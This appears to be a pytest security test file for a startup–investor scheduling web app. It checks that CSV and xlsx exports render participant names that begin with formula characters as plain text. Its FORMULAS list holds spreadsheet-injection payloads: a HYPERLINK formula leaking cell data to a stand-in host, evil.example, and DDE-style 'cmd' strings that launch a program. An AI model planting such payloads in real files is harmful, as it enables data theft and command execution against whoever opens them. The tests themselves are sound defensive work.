"""Exported tables open safely in a spreadsheet: a participant named like a formula is shown as
text, never run (CSV: a leading apostrophe; xlsx: a string cell)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

import pytest
from flask import Flask
from openpyxl import load_workbook

from matcher.solve.solver import solve
from tests.security.conftest import Visitor
from tests.webapp.conftest import EMAIL, owned_event, tiny_event
from web.db import new_session
from web.events.store import add_version
from web.exports import FORMULA_STARTS, csv_text, safe_cell, xlsx_bytes

Visit = Callable[..., Visitor]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_text_that_starts_a_formula_stays_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert next(csv.reader(io.StringIO(csv_text([[value]])))) == ["'" + value]
    book = xlsx_bytes("sheet", [[value]])
    sheet = load_workbook(io.BytesIO(book)).active
    # XML reads a carriage return back as a line feed.
    assert sheet["A1"].data_type == "s"  # type: ignore[index]
    assert sheet["A1"].value == value.replace("\r", "\n")  # type: ignore[index]
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("value", ["Alpha Robotics", "st-01", 12, -3, None, "a=b", "T01"])
def test_other_cells_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


def test_the_schedule_csv_neutralises_formula_names(app: Flask, organiser: str,
                                                    visit: Visit) -> None:
    event = tiny_event()
    people = [*event.startups, *event.investors]
    renamed = {p.id: FORMULAS[n % len(FORMULAS)] for n, p in enumerate(people)}
    event = event.model_copy(update={
        "startups": tuple(s.model_copy(update={"name": renamed[s.id]}) for s in event.startups),
        "investors": tuple(i.model_copy(update={"name": renamed[i.id],
                                                "organisation": "=1+2"})
                           for i in event.investors)})
    event_id = owned_event(app, event)
    with new_session(app) as session:
        add_version(session, event_id, solve(event, time_limit=5, workers=1), event, "generated")
    owner = visit()
    owner.login(EMAIL)
    body = owner.get(f"/events/{event_id}/versions/1/schedule.csv").text
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) > 1
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULAS[0] in cells and "'=1+2" in cells


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_import_templates_hold_no_formula(app: Flask, organiser: str, visit: Visit,
                                          ext: str) -> None:
    event_id = owned_event(app, tiny_event())
    owner = visit()
    owner.login(EMAIL)
    for kind in ("startup", "investor"):
        body = owner.get(f"/events/{event_id}/template-{kind}.{ext}").content
        if ext == "csv":
            cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
        else:
            sheet = load_workbook(io.BytesIO(body)).active
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # type: ignore[union-attr]
            cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]  # type: ignore[union-attr]
        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
